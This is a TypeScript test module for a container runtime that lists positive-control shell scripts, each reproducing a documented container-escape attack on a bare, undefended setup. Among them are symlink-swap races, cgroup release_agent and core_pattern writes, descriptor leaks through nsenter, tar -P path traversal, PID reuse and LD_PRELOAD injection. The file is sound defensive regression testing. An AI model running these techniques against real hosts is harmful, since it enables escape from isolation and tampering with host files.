/**
 * Positive controls: each attack of docs/security.md made against the bare kernel, by a container as one would make it in a shell, without
 * the defence. It must succeed there, or the row's test proves nothing. Scripts run in a mount namespace of their own with
 * ROOT (a root folder), CANARY (a folder of the host with a file `f`), TMP, PROBE, RACE; `naive COMMAND` is a container without any defence.
 */
export type Control = {
	readonly row: string;
	/** In few words, for the table. */
	readonly how: string;
	readonly script: string;
	/** What the output shows when the attack has succeeded. */
	readonly bites: RegExp;
};

export const prelude = `
	set -u
	naive() { unshare --pid --fork --kill-child --mount sh -c 'mount -t proc proc "$ROOT/proc" && exec chroot "$ROOT" "$@"' sh "$@"; }
	link() { rm -rf "$ROOT/$2"; ln -s "$1" "$ROOT/$2"; }
	canary() { cat "$CANARY/f"; ls "$CANARY"; }
	cp "$PROBE" "$ROOT/bin/probe"
`;

/** A container that peeks, and a process of the host that goes into its pid namespace while it does. */
const peekAt = (what: string, entering: string): string => `
	naive /bin/probe peek > "$TMP/peeked" &
	until grep -qs peeking "$TMP/peeked"; do :; done
	inside=$(pgrep -P "$(pgrep -P $!)")
	${entering}
	for turn in 1 2 3 4 5 6 7 8 9 10; do grep -q '^got ${what}' "$TMP/peeked" && break; sleep 0.1; done
	kill -9 "$inside"
	grep -m 1 '^got ${what}' "$TMP/peeked"
`;

export const controls: readonly Control[] = [
	{
		row: 'A1',
		how: 'a program of the host enters the pid namespace as it is: its file is opened for writing',
		script: peekAt('/proc/self/fd', 'cp /bin/busybox "$TMP/sleep"; nsenter --target "$inside" --pid "$TMP/sleep" 0.3'),
		bites: /^got \/proc\/self\/fd/,
	},
	{
		row: 'A2',
		how: 'chdir() to an inherited descriptor after chroot',
		script: `mount -t proc proc "$ROOT/proc"; chroot "$ROOT" sh -c 'cd /proc/self/fd/7 && cat f' 7<"$CANARY"`,
		bites: /of the host/,
	},
	{
		row: 'A3',
		how: 'a process enters with a descriptor of the host',
		script: peekAt('/proc/[0-9]*/fd/7', 'nsenter --target "$inside" --pid sleep 0.3 7<"$CANARY"'),
		bites: /^got \/proc\/\d+\/fd\/7/,
	},
	{
		row: 'A4',
		how: "mount --bind of the image's /dev/null as the mask",
		script: 'link "$CANARY/f" dev/null; touch "$ROOT/masked"; mount --bind "$ROOT/dev/null" "$ROOT/masked"; echo bad > "$ROOT/masked"; canary',
		bites: /^bad/,
	},
	{
		row: 'A5',
		how: 'mount --bind on /dev/console by its path',
		script: 'link "$CANARY/f" dev/console; mount --bind /dev/null "$ROOT/dev/console"; stat -c %F "$CANARY/f"',
		bites: /character special/,
	},
	{
		row: 'A6',
		how: 'a setting is written by its path below the root',
		script: 'mkdir -p "$ROOT/proc/sys"; link "$CANARY/f" proc/sys/setting; echo 1 > "$ROOT/proc/sys/setting"; canary',
		bites: /^1\n/,
	},
	{
		row: 'A7',
		how: 'mknod by path in /dev of the image',
		script: 'link "$CANARY" dev; mknod "$ROOT/dev/zero" c 1 5; chown 4242 "$ROOT/dev/zero"; stat -c "%n %u" "$CANARY/zero"',
		bites: /zero 4242/,
	},
	{
		row: 'A8',
		how: 'touch and mount by path, beside the same loop',
		script:
			'mkdir -p "$ROOT/v/place"; link "$CANARY" v/link; "$RACE" 300 swap "$ROOT/v/place" "$ROOT/v/link" empty "$CANARY" -- sh -c \'rm -f "$CANARY/f"; touch "$ROOT/v/place/made"\'',
		bites: /"touched":[1-9]/,
	},
	{
		row: 'A9',
		how: 'a volume mounted on /proc',
		script: 'mkdir -p "$TMP/volume/self/attr"; echo fake > "$TMP/volume/self/attr/current"; mount --bind "$TMP/volume" "$ROOT/proc"; chroot "$ROOT" cat /proc/self/attr/current',
		bites: /fake/,
	},
	{
		row: 'A10',
		how: 'mkdir -p by path, beside the same loop',
		script: 'rm -f "$CANARY/f"; mkdir "$ROOT/a"; link "$CANARY" b; "$RACE" 300 swap "$ROOT/a" "$ROOT/b" empty "$CANARY" -- mkdir -p "$ROOT/a/deep"',
		bites: /"touched":[1-9]/,
	},
	{
		row: 'A11',
		how: 'a hierarchy of cgroups mounted by a container with all capabilities',
		script: 'mkdir "$ROOT/c"; naive sh -c \'mount -t cgroup -o none,name=hawser-control none /c && echo /x > /c/release_agent && cat /c/release_agent; umount /c\'',
		bites: /^\/x/,
	},
	{row: 'A12', how: "a container that stays in its caller's cgroup", script: '[ "$(naive cat /proc/self/cgroup)" = "$(cat /proc/self/cgroup)" ] && echo same', bites: /same/},
	{
		row: 'A13',
		how: 'setpriv --inh-caps',
		script: 'mount -t proc proc "$ROOT/proc"; setpriv --inh-caps +chown chroot "$ROOT" grep CapInh /proc/self/status',
		bites: /CapInh:\t0*1$/m,
	},
	{row: 'A14', how: 'a number cut to 32 bits', script: 'setpriv --reuid $((4294967296 & 0xffffffff)) id -u', bites: /^0$/m},
	{
		row: 'A15',
		how: "setpriv --keep-groups: the caller's",
		script:
			'setpriv --groups 4242 setpriv --reuid 1000 --regid 1000 --keep-groups chroot / id -G 2>&1 || setpriv --groups 4242 setpriv --reuid 1000 --regid 1000 --keep-groups id -G',
		bites: /4242/,
	},
	{
		row: 'A16',
		how: 'cat of a linked /etc/passwd by path; a pipe waits for ever',
		script: 'link "$CANARY/f" etc/passwd; cat "$ROOT/etc/passwd"; mkfifo "$ROOT/etc/group"-; timeout 0.3 cat "$ROOT/etc/group"-; echo $?',
		bites: /of the host\n124/,
	},
	{
		row: 'A17',
		how: 'printf of a name with a newline into a file of lines',
		script: 'printf "127.0.0.1 %s\\n" "a\n1.2.3.4 bank" > "$TMP/hosts"; grep -c "" "$TMP/hosts"',
		bites: /^2$/m,
	},
	{
		row: 'A18',
		how: 'a write to /proc/sys/kernel/core_pattern (of what it is) in own namespaces',
		script: 'unshare --net --ipc --uts --mount sh -c \'cat /proc/sys/kernel/core_pattern > "$TMP/now"; cat "$TMP/now" > /proc/sys/kernel/core_pattern && echo set\'',
		bites: /^set/,
	},
	{
		row: 'A20',
		how: 'the sanitizers see one byte too many',
		script:
			'printf "#include <string.h>\\n#include <stdlib.h>\\nint main(int n, char **v) { char *p = malloc(4); strcpy(p, v[n - 1]); return p[0]; }" > "$TMP/x.c"; cc -w -g -fsanitize=address -o "$TMP/x" "$TMP/x.c" && "$TMP/x" overflow',
		bites: /heap-buffer-overflow/,
	},
	{row: 'A21', how: 'the same questions without a filter', script: '"$PROBE" calls', bites: /ioctl TIOCSTI\+2\^32 allowed/},
	{row: 'A22', how: 'the same sockets without a filter', script: '"$PROBE" calls', bites: /socket 38 allowed/},
	{row: 'A23', how: "chroot keeps the caller's session keyring", script: '"$PROBE" keep chroot "$ROOT" /bin/probe find', bites: /^key/},
	{row: 'A26', how: 'a node of /dev/kmsg made and opened with all capabilities', script: 'naive sh -c "mknod /n c 1 11 && echo open > /n && echo OPEN"', bites: /OPEN/},
	{
		row: 'A27',
		how: 'kill of the number after it came round',
		script: `unshare --pid --fork --mount-proc --kill-child sh -c 'sleep 100 & pid=$!; kill -9 $pid; wait $pid; for turn in 1 2 3 4 5 6 7 8 9; do echo $((pid - 1)) > /proc/sys/kernel/ns_last_pid; sleep 1000 & [ $! = $pid ] && break; kill -9 $!; done; kill -9 $pid; wait $pid; echo $?' 2>/dev/null`,
		bites: /^137/m,
	},
	{row: 'A28', how: 'the same files in a bare procfs', script: 'naive sh -c "cat /proc/interrupts /proc/timer_list | head -c 1 | wc -c"', bites: /^1$/m},
	{
		row: 'A29',
		how: 'a bind mount made read-only without what is below it',
		script:
			'mkdir -p "$TMP/v/sub" "$TMP/d"; mount -t tmpfs none "$TMP/v/sub"; mount --rbind "$TMP/v" "$TMP/d"; mount -o remount,bind,ro "$TMP/d"; touch "$TMP/d/sub/x" && echo wrote',
		bites: /wrote/,
	},
	{
		row: 'A31',
		how: "xz looked for in the image's PATH by a host process in its root",
		script: 'printf "#!/bin/sh\\ntouch /ran\\n" > "$ROOT/bin/xz"; chmod +x "$ROOT/bin/xz"; chroot "$ROOT" xz; ls "$ROOT"',
		bites: /^ran$/m,
	},
	{
		row: 'A32',
		how: 'cp by path, beside the same loop',
		script:
			'mkdir "$ROOT/a"; echo inside > "$ROOT/a/f"; link "$CANARY" b; cp "$ROOT/a/f" "$TMP/out"; "$RACE" 300 swap "$ROOT/a" "$ROOT/b" same "$TMP/out" -- cp "$ROOT/a/f" "$TMP/out"',
		bites: /"touched":[1-9]/,
	},
	{
		row: 'A33',
		how: 'tar -P',
		script: 'mkdir "$TMP/dest"; tar -C "$CANARY" -P --transform "s#^f#$CANARY/evil#" -cf "$TMP/evil.tar" f; tar -C "$TMP/dest" -xPf "$TMP/evil.tar"; canary',
		bites: /^evil$/m,
	},
	{row: 'A34', how: 'cp -a of what the link shows', script: 'link "$CANARY" v; mkdir "$TMP/volume"; cp -a "$ROOT/v/." "$TMP/volume"; cat "$TMP/volume/f"', bites: /of the host/},
	{row: 'A35', how: 'a write to /etc/hosts by path', script: 'link "$CANARY/f" etc/hosts; echo hosts > "$ROOT/etc/hosts"; canary', bites: /^hosts/},
	{row: 'A36', how: 'chroot keeps the environment', script: 'AWS_SECRET=canary naive env', bites: /AWS_SECRET=canary/},
	{
		row: 'A37',
		how: 'a folder of mode 0755',
		script:
			'mkdir -m 755 /tmp/hawser-control-$$; touch /tmp/hawser-control-$$/layer; setpriv --reuid 1000 --regid 1000 --clear-groups ls /tmp/hawser-control-$$; rm -r /tmp/hawser-control-$$',
		bites: /layer/,
	},
	{
		row: 'A38',
		how: 'a hundred processes without a limit',
		script: `mount --bind /dev "$ROOT/dev"; naive sh -c 'for n in 0 1 2 3 4 5 6 7 8 9; do for m in 0 1 2 3 4 5 6 7 8 9; do sleep 20 & done; done; ps | grep -c "sleep 20"'`,
		bites: /^10\d$/m,
	},
	{row: 'A39', how: "a helper that inherits the image's environment", script: 'LD_PRELOAD=/x.so ls /', bites: /\/x\.so/},
	{
		row: 'A40',
		how: 'mount --bind of a sub-path by path',
		script: 'mkdir "$TMP/vol" "$ROOT/mnt"; ln -s "$CANARY" "$TMP/vol/a"; mount --bind "$TMP/vol/a" "$ROOT/mnt"; cat "$ROOT/mnt/f"',
		bites: /of the host/,
	},
];

/** Rows whose control is in their own test, or that have none. */
export const others: Readonly<Record<string, string>> = {
	A19: 'the same names in a configuration of the caller do decide',
	A24: 'a shell in chroot on the same terminal',
	A25: 'an abstract socket is seen in the same list',
	A30: 'none: there is nothing that would restore',
	A41: 'none: the table is its own test',
};
